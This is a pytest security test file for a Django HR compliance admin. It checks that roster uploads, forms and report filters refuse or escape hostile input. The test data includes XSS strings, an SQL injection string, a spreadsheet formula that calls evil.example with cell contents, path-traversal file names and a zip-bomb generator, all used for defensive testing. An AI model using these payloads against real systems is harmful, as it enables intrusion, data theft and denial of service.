"""Hostile input against HR's side of the admin: the roster upload (files that are too big, not
what they claim, zip bombs, names built to attack spreadsheets, browsers or the signed record),
malformed requests, missing CSRF tokens, and garbage in every HR form and report filter.

Expected everywhere: a clean 4xx or a form error, never a 500; nothing unsafe stored; whatever
is shown back is escaped."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from attest import roster
from attest.admin.people.roster_import import ROSTER_SESSION_KEY
from attest.forms import people as forms_people
from attest.models import Employee, Requirement, RosterUpload
from attest.validators import ERROR_UNPRINTABLE
from cms.roles import HR
from tests import factories
from tests.attest.factories import snapshot, team, write_csv, write_xlsx

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("x")</script>'
SQL = "Robert'); DROP TABLE attest_employee;--"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
IMG = "<img src=x onerror=alert(1)>"


def client_for(user, **kwargs) -> Client:
    client = Client(raise_request_exception=False, **kwargs)
    client.force_login(user)
    return client


@pytest.fixture
def hr(db):
    return client_for(factories.user(groups=[HR]))


def upload(client, name: str, content: bytes, **options):
    data = {"file": SimpleUploadedFile(name, content), "send_invitations": "on", **options}
    return client.post(reverse("roster_import:upload"), data)


def file_errors(response) -> list[str]:
    assert response.status_code == 200
    return response.context["form"].errors.get("file", [])


def preview_errors(response) -> list[str]:
    """The problems the preview lists (the form accepted the file)."""
    assert response.status_code == 200, response.status_code
    assert "result" in response.context, response.context["form"].errors
    return [str(error) for error in response.context["result"].errors]


def pending_uploads() -> set:
    return set(RosterUpload.objects.values_list("token", flat=True))


# --- Files that are not what they claim ----------------------------------------------------------


def test_an_oversized_roster_is_refused_without_being_kept(hr):
    before, files = snapshot(), pending_uploads()
    header = ",".join(roster.COLUMNS).encode() + b"\n"
    content = header + b"x" * (forms_people.ROSTER_MAX_BYTES + 1)
    assert file_errors(upload(hr, "roster.csv", content)) == [str(forms_people.ERROR_ROSTER_TOO_LARGE)]
    assert snapshot() == before and pending_uploads() == files
    assert ROSTER_SESSION_KEY not in hr.session


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("roster.exe", b"MZ\x90\x00", forms_people.ERROR_ROSTER_TYPE),
        ("roster.csv.exe", b"employee_id\n", forms_people.ERROR_ROSTER_TYPE),
        ("roster.html", SCRIPT.encode(), forms_people.ERROR_ROSTER_TYPE),
        ("roster", b"employee_id\n", forms_people.ERROR_ROSTER_TYPE),
        ("roster.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00", forms_people.ERROR_ROSTER_CONTENT),
        ("roster.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", forms_people.ERROR_ROSTER_CONTENT),
        ("roster.csv", b"PK\x03\x04\x14\x00\x00\x00\x08\x00", forms_people.ERROR_ROSTER_CONTENT),
    ],
)
def test_files_that_are_not_rosters_are_refused_by_the_form(hr, name, content, message):
    files = pending_uploads()
    assert file_errors(upload(hr, name, content)) == [str(message)]
    assert pending_uploads() == files


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("roster.xlsx", b"PK\x03\x04" + b"\xde\xad\xbe\xef" * 1000),  # a zip header, then garbage
        ("roster.xlsx", b"PK\x03\x04"),
        ("roster.csv", "employee_id;email\n".encode("utf-16")),  # not UTF-8
        ("roster.csv", b"\xff\xfe\xfa garbage \xc3\x28"),
        ("roster.csv", b"just some text\nwith no roster header\n"),
        ("roster.csv", b""),
    ],
)
def test_garbage_behind_a_plausible_name_is_not_a_roster(hr, name, content):
    before, files = snapshot(), pending_uploads()
    response = upload(hr, name, content)
    if "result" in response.context:
        assert preview_errors(response) == [f"row 1, column file: {roster.ERROR_NOT_A_ROSTER}"]
    else:
        assert file_errors(response)  # refused by the form already (an empty file)
    assert snapshot() == before and pending_uploads() == files
    assert ROSTER_SESSION_KEY not in hr.session


def _zip_bomb(unpacked_mb: int) -> bytes:
    """A workbook whose sheet unpacks from a few hundred kilobytes to ``unpacked_mb`` megabytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = b" " * (1 << 20)
            for _ in range(unpacked_mb):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(hr):
    bomb = _zip_bomb(roster.XLSX_MAX_UNPACKED_BYTES // (1 << 20) + 16)
    assert len(bomb) < forms_people.ROSTER_MAX_BYTES
    before = snapshot()
    response = upload(hr, "roster.xlsx", bomb)
    assert preview_errors(response) == [f"row 1, column file: {roster.ERROR_NOT_A_ROSTER}"]
    assert snapshot() == before


def test_a_real_workbook_is_well_under_the_unpacked_limit(hr, tmp_path):
    path = write_xlsx(tmp_path / "roster.xlsx", team(3))
    with zipfile.ZipFile(path) as archive:
        assert sum(member.file_size for member in archive.infolist()) < roster.XLSX_MAX_UNPACKED_BYTES // 1000
    assert preview_errors(upload(hr, "roster.xlsx", path.read_bytes())) == []


# --- Names built to attack -------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "Emma\u202eWilson",  # right-to-left override: shows as "EmmanosliW"
        "Emma\u2066Wilson",  # isolate
        "Emma\x07Wilson",  # bell
        "Emma\x1bWilson",  # escape
        "Emma\u200bWilson",  # zero-width space
        "Emma\x00Wilson",
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_and_direction_characters_in_roster_names_are_refused(hr, tmp_path, name, fmt):
    if fmt == "xlsx" and name[4] in "\x00\x07\x1b":
        pytest.skip("a workbook cannot hold ASCII control characters")
    rows = team(2)
    rows[1]["last_name"] = name
    writer = write_csv if fmt == "csv" else write_xlsx
    path = writer(tmp_path / f"roster.{fmt}", rows)
    before = snapshot()
    response = upload(hr, path.name, path.read_bytes())
    if fmt == "csv" and "\x00" in name:
        assert file_errors(response) == [str(forms_people.ERROR_ROSTER_CONTENT)]
    else:
        assert preview_errors(response) == [f"row 3, column last_name: {ERROR_UNPRINTABLE}"]
    assert snapshot() == before


def _import(hr, tmp_path, rows):
    path = write_csv(tmp_path / "roster.csv", rows)
    response = upload(hr, path.name, path.read_bytes())
    assert preview_errors(response) == []
    token = hr.session[ROSTER_SESSION_KEY]["token"]
    response = hr.post(reverse("roster_import:confirm"), {"token": token})
    assert response.status_code == 302 and response["Location"] == reverse("employees:index")


def test_script_formula_and_sql_in_names_are_stored_as_text_and_shown_escaped(hr, tmp_path, open_assignment):
    rows = team(4)
    rows[1].update(first_name=SCRIPT, last_name="Scripted")
    rows[2].update(first_name=FORMULA, last_name="Formula", department="+SUM(1,2)")
    rows[3].update(first_name=SQL, last_name="Tables", location="@cmd")
    _import(hr, tmp_path, rows)

    stored = {employee.last_name: employee for employee in Employee.objects.all()}
    assert stored["Scripted"].first_name == SCRIPT
    assert stored["Formula"].first_name == FORMULA and stored["Formula"].department == "+SUM(1,2)"
    assert stored["Tables"].first_name == SQL
    assert Employee.objects.count() == 5  # the table is still there

    for url in (
        reverse("employees:index"),
        reverse("employees:edit", args=[stored["Scripted"].pk]),
        "/admin/compliance/people/",
        "/admin/compliance/",
    ):
        response = hr.get(url)
        assert response.status_code == 200, url
        assert SCRIPT not in response.content.decode(), url
    assert "&lt;script&gt;" in hr.get(reverse("employees:index")).content.decode()

    export = hr.get("/admin/compliance/export/csv/")
    assert export.status_code == 200
    lines = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode("utf-8-sig"))))
    cells = [cell for line in lines for cell in line]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), "a cell Excel would run as a formula"
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


@pytest.mark.parametrize("name", [f"{IMG}.csv", "../../../etc/cron.d/roster.csv", "..\\..\\roster.csv"])
def test_hostile_file_names_are_escaped_and_cannot_leave_the_upload_folder(hr, tmp_path, name):
    path = write_csv(tmp_path / "roster.csv", team(2))
    response = upload(hr, name, path.read_bytes())
    assert preview_errors(response) == []
    html = response.content.decode()
    assert IMG not in html
    pending = hr.session[ROSTER_SESSION_KEY]
    assert "/" not in pending["name"] and "\\" not in pending["name"]
    staged = RosterUpload.objects.get()
    assert staged.token == pending["token"] and staged.file_name == pending["name"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("email", f"{SCRIPT}@example.com"),
        ("employee_id", "x" * 5000),
        ("hire_date", SCRIPT),
        ("track", SCRIPT),
        ("manager_employee_id", SCRIPT),
    ],
)
def test_problems_quoting_hostile_values_are_escaped(hr, tmp_path, field, value):
    rows = team(2)
    rows[1][field] = value
    path = write_csv(tmp_path / "roster.csv", rows)
    response = upload(hr, path.name, path.read_bytes())
    assert preview_errors(response)
    assert SCRIPT not in response.content.decode()


# --- Malformed requests and CSRF -------------------------------------------------------------


def test_malformed_multipart_to_the_roster_upload_is_a_400(hr):
    response = hr.generic(
        "POST",
        reverse("roster_import:upload"),
        data=b'--broken\r\nContent-Disposition: form-data; name="file"; filename="r.csv"\r\n\r\nemployee_id',
        content_type="multipart/form-data; boundary=",
    )
    assert response.status_code == 400


def test_upload_without_a_file_is_a_form_error(hr):
    response = hr.post(reverse("roster_import:upload"), {"file": "not a file", "deactivate_missing": SCRIPT})
    assert file_errors(response)
    assert SCRIPT not in response.content.decode()


@pytest.fixture
def open_assignment(db):
    employee = factories.employee("Emma", "Wilson")
    return factories.assignment(employee, factories.release(factories.published_policy()))


def test_hr_forms_refuse_posts_without_a_csrf_token(tmp_path, open_assignment):
    client = client_for(factories.user(groups=[HR]), enforce_csrf_checks=True)
    path = write_csv(tmp_path / "roster.csv", team(2))
    posts = [
        (reverse("roster_import:upload"), {"file": SimpleUploadedFile("roster.csv", path.read_bytes())}),
        (reverse("roster_import:confirm"), {"token": "x"}),
        (reverse("assignments:exempt", args=[open_assignment.pk]), {"reason": "Long-term leave"}),
        (reverse("requirements:add"), {"name": "Sneaky"}),
        (reverse("employees:edit", args=[open_assignment.employee.pk]), {"first_name": "Changed"}),
    ]
    for url, data in posts:
        assert client.post(url, data).status_code == 403, url
    open_assignment.refresh_from_db()
    assert open_assignment.exempted_at is None
    assert not Requirement.objects.filter(name="Sneaky").exists()
    assert Employee.objects.get().first_name == "Emma"


# --- HR forms ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("reason", "stored"),
    [
        ("x" * 10_000, False),
        ("Leave\x00", False),
        ("   ", False),
        (SCRIPT, True),
        (SQL, True),
        (FORMULA, True),
    ],
)
def test_exemption_reason_is_checked_stored_as_text_and_escaped(hr, open_assignment, reason, stored):
    url = reverse("assignments:exempt", args=[open_assignment.pk])
    response = hr.post(url, {"reason": reason})
    open_assignment.refresh_from_db()
    if not stored:
        assert response.status_code == 200 and response.context["form"].errors["reason"]
        assert open_assignment.exempted_at is None
        return
    assert response.status_code == 302
    assert open_assignment.exemption_reason == reason
    listing = hr.get(reverse("assignments:index"))
    assert listing.status_code == 200
    assert SCRIPT not in listing.content.decode()
    assert SCRIPT not in hr.get(reverse("assignments:inspect", args=[open_assignment.pk])).content.decode()
    export = hr.get("/admin/compliance/export/csv/")
    assert export.status_code == 200


def test_exempting_a_closed_or_missing_assignment_is_clean(hr, open_assignment):
    assert hr.post(reverse("assignments:exempt", args=[open_assignment.pk]), {"reason": "Leave"}).status_code == 302
    again = hr.post(reverse("assignments:exempt", args=[open_assignment.pk]), {"reason": "Again"})
    assert again.status_code == 200
    open_assignment.refresh_from_db()
    assert open_assignment.exemption_reason == "Leave"
    assert hr.post(reverse("assignments:exempt", args=[2**62]), {"reason": "Leave"}).status_code == 404


def _requirement_data(policy_page, **fields):
    data = {
        "name": "Annual refresher",
        "policy": str(policy_page.pk),
        "kind": "adhoc",
        "due_days": "30",
        "due_date": "2031-01-01",
        "starts_on": "2026-01-01",
        "active": "on",
    }
    data.update(fields)
    return data


@pytest.mark.parametrize(
    "fields",
    [
        {"name": "x" * 10_000},
        {"name": "Name\x00"},
        {"policy": SQL},
        {"policy": "99999999999999999999999"},
        {"kind": SCRIPT},
        {"due_days": "99999999999999999999999"},
        {"due_days": "-5"},
        {"due_days": SQL},
        {"due_date": "9999-99-99"},
        {"due_date": "0000-00-00"},
        {"starts_on": "1' OR '1'='1"},
        {"departments": [SCRIPT]},
        {"tracks": ["official", SQL]},
        {"annual_fixed_date": "garbage"},
    ],
)
def test_requirement_form_turns_garbage_into_form_errors(hr, open_assignment, fields):
    policy = open_assignment.version.policy
    before = Requirement.objects.count()
    response = hr.post(reverse("requirements:add"), _requirement_data(policy, **fields))
    assert response.status_code == 200
    assert response.context["form"].errors
    assert SCRIPT not in response.content.decode()
    assert Requirement.objects.count() == before


def test_requirement_name_with_markup_is_stored_as_text_and_escaped(hr, open_assignment):
    policy = open_assignment.version.policy
    response = hr.post(reverse("requirements:add"), _requirement_data(policy, name=SCRIPT))
    assert response.status_code == 302
    assert Requirement.objects.filter(name=SCRIPT).exists()
    for url in (reverse("requirements:index"), reverse("assignments:index"), "/admin/compliance/"):
        page = hr.get(url)
        assert page.status_code == 200, url
        assert SCRIPT not in page.content.decode(), url


@pytest.mark.parametrize(
    "fields",
    [
        {"policy": "99999999999999999999999"},
        {"policy": SQL},
        {"number": "x" * 10_000},
        {"number": SCRIPT},
        {"effective_date": "9999-99-99"},
        {"key_changes": "\x00"},
    ],
)
def test_release_form_turns_garbage_into_form_errors(open_assignment, fields):
    from cms.roles import LEGAL_REVIEWERS
    from training.models import PolicyVersion

    reviewer = client_for(factories.user(groups=[LEGAL_REVIEWERS]))
    data = {"policy": str(open_assignment.version.policy_id), "number": "2.0", "effective_date": "2027-01-01"}
    data.update({"key_changes": "Tightened", "requires_reattestation": "on", **fields})
    response = reviewer.post(reverse("policy_versions:add"), data)
    assert response.status_code == 200 and response.context["form"].errors
    assert SCRIPT not in response.content.decode()
    assert PolicyVersion.objects.count() == 1


GARBAGE_QUERIES = [
    "as_of=garbage&department=%00",
    "as_of=9999-12-31",
    "as_of=0001-01-01",
    "as_of=1999-12-31",
    "due_from=0001-01-01&due_to=9999-12-31",
    "due_from=2030-01-01&due_to=2020-01-01",
    "requirement=abc",
    "requirement=99999999999999999999999999",
    "policy=%27%3B+DROP+TABLE+attest_assignment%3B--",
    "department=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "location=" + "x" * 5000,
    "status=%3Cscript%3E",
    "dimension=manager&key=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "dimension=manager&key=not-a-number",
    "dimension=due_week&key=garbage",
    "dimension=done_week&key=2026-13-45&status=done",
    "dimension=department&key=%00",
    "dimension=nonsense&key=x",
    "page=-1",
    "page=abc",
    "page=99999999999999999999",
    "as_of=2026-01-01&as_of=garbage",
]
REPORT_URLS = [
    "/admin/compliance/",
    "/admin/compliance/people/",
    "/admin/compliance/quiz/",
    "/admin/compliance/chart/trend.svg",
    "/admin/compliance/chart/status-by-department.svg",
    "/admin/compliance/export/csv/",
]


@pytest.mark.parametrize("query", GARBAGE_QUERIES)
def test_report_filters_with_garbage_are_clean(hr, open_assignment, query):
    for url in REPORT_URLS:
        response = hr.get(f"{url}?{query}")
        assert response.status_code in (200, 400, 404), (url, response.status_code)
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if response["Content-Type"].startswith("text/plain"):  # an export's refusal names the bad value
            assert response["X-Content-Type-Options"] == "nosniff"
        else:
            assert b"<script>alert(1)" not in body, url


@pytest.mark.parametrize(
    "query",
    [
        "q=%00",
        "q=" + "x" * 5000,
        "q=%27%20OR%201%3D1--",
        "status=%00",
        "requirement=abc",
        "department=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "due_on_after=garbage&due_on_before=9999-99-99",
        "ordering=-password",
        "ordering=%00",
        "p=-1",
        "p=abc",
    ],
)
@pytest.mark.parametrize(
    "listing", ["employees:index", "assignments:index", "requirements:index", "attestations:index"]
)
def test_admin_listings_with_garbage_parameters_are_clean(hr, open_assignment, listing, query):
    response = hr.get(f"{reverse(listing)}?{query}")
    assert response.status_code in (200, 400, 404), response.status_code
    assert b"<script>alert(1)" not in response.content


def test_employee_edit_refuses_control_characters_in_names(hr, open_assignment):
    employee = open_assignment.employee
    data = {
        "first_name": "Emma",
        "last_name": "Wil\u202eson",
        "email": employee.email,
        "manager_employee_id": "",
        "department": "Retail\x07",
        "location": "London",
        "hire_date": "2020-01-01",
        "language": "en",
        "track": "all",
        "status": "active",
    }
    response = hr.post(reverse("employees:edit", args=[employee.pk]), data)
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert errors["last_name"] == [str(ERROR_UNPRINTABLE)] and errors["department"] == [str(ERROR_UNPRINTABLE)]
    employee.refresh_from_db()
    assert employee.last_name == "Wilson"
